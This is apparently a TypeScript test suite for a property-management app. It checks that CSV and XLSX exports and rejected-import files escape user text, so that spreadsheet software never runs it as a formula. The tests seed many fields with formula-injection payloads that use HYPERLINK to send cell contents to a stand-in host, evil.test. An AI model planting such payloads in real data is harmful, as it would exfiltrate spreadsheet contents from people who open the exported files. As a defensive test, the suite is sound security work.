import { parse } from 'csv-parse/sync'
import { fromBuffer } from 'yauzl'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { toSpreadsheetText } from '../../../platform/text/spreadsheet-text.ts'
import { createTestApp, type TestApp } from '../../../testing/app.ts'
import type { TestOrg, TestPerson } from '../../../testing/factories.ts'
import { expectJson, type FileDocument, importCalls } from '../../../testing/import-test-calls.ts'

const signs = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']
const attacks = signs.map((sign) => `${sign}HYPERLINK("https://evil.test?x="&A1,"Open")`)
const runs = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/
const plainNumber = /^[+-]?\d+(?:\.\d+)?$/

let test: TestApp
let org: TestOrg
let person: TestPerson
beforeAll(async () => {
  test = await createTestApp()
  org = await test.mintOrg()
  person = await org.member('org_admin')
  for (const attack of attacks) {
    const { id: portfolioId } = await org.portfolio({ name: attack, description: attack })
    const { id: propertyId } = await org.property({
      name: attack,
      portfolioId,
      line1: attack,
      line2: attack,
      city: attack,
      notes: attack,
      tags: [attack],
    })
    await org.unit({ propertyId, name: attack })
    const made = await test.as(person).request('/tenant', {
      method: 'POST',
      json: { firstName: attack, lastName: attack, notes: attack, occupancies: [{ propertyId }] },
    })
    if (made.status !== 201) throw new Error(await made.text())
    const noted = await test
      .as(person)
      .request('/ledger/events', { method: 'POST', json: { propertyId, note: attack } })
    if (noted.status !== 201) throw new Error(await noted.text())
  }
})
afterAll(() => test.close())

const read = async (path: string) => {
  const response = await test.as(person).request(path)
  expect([path, response.status]).toEqual([path, 200])
  return Buffer.from(await response.arrayBuffer())
}

function expectHarmless(csv: Buffer): string[] {
  const cells = parse(csv, { bom: true, relax_column_count: true }).flat()
  expect(cells.filter((cell) => runs.test(cell) && !plainNumber.test(cell))).toEqual([])
  // All of them must be present, so that omitting one can't pass the test.
  for (const attack of attacks) expect(cells.some((cell) => cell.includes(attack.slice(1, 20)))).toBe(true)
  return cells
}

describe('user input never runs as a formula', () => {
  it.each(['portfolio', 'property', 'unit', 'tenant'])('in the CSV of the list: %s', async (kind) => {
    const cells = expectHarmless(await read(`/${kind}/export?format=csv`))
    for (const attack of attacks) expect(cells).toContain(`'${attack}`)
  })

  it.each(['portfolio', 'property', 'unit', 'tenant'])('in the workbook of the list: %s', async (kind) => {
    const sheets = await unpack(await read(`/${kind}/export?format=xlsx`))
    expect(sheets).toContain('HYPERLINK')
    expect(sheets).not.toMatch(/<f[\s>/]|<hyperlink|<definedName|externalLink|ddeLink/)
  })

  it('in the ledger', async () => {
    expect(expectHarmless(await read('/ledger/export?format=csv'))).not.toEqual([])
  })

  it('in the rows that an import rejected, its headings and its reasons', async () => {
    const calls = importCalls(test, person)
    const quoted = (cells: string[]) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')
    const header = ['Name', 'Address line 1', 'City', 'State', 'Zip', '=1+1']
    const rows = attacks.map((attack) => [attack, '1 Oak St', '', attack, attack, attack])
    const content = [header, ...rows].map(quoted).join('\n')
    const { fileId } = await expectJson<FileDocument>(await calls.upload(content), 201)
    await expectJson(await calls.validate({ fileId }), 200)
    const cells = expectHarmless(await read(`/property/import/${fileId}/rejected.csv`))
    expect(cells).toContain("'=1+1")
  })
})

it('is only escaped if a spreadsheet would run it', () => {
  for (const text of ['-12', '+3.5', '12', 'a=b', ' =1+1', "'=1", ''])
    expect(toSpreadsheetText(text)).toBe(text)
  for (const text of ['-12a', '+', '=', '@x', '\tx', '\rx', '\nx', '-1+1', '＝1']) {
    expect(toSpreadsheetText(text)).toBe(`'${text}`)
  }
})

/** Every part of a workbook as one text. */
async function unpack(archive: Buffer) {
  return await new Promise<string>((resolve, reject) => {
    fromBuffer(archive, { lazyEntries: true }, (error, zip) => {
      if (error) return reject(error)
      let text = ''
      zip.on('entry', (entry) => {
        zip.openReadStream(entry, (failure, stream) => {
          if (failure) return reject(failure)
          stream.on('data', (chunk: Buffer) => (text += chunk.toString()))
          stream.on('end', () => zip.readEntry())
        })
      })
      zip.on('end', () => resolve(text))
      zip.on('error', reject)
      zip.readEntry()
    })
  })
}
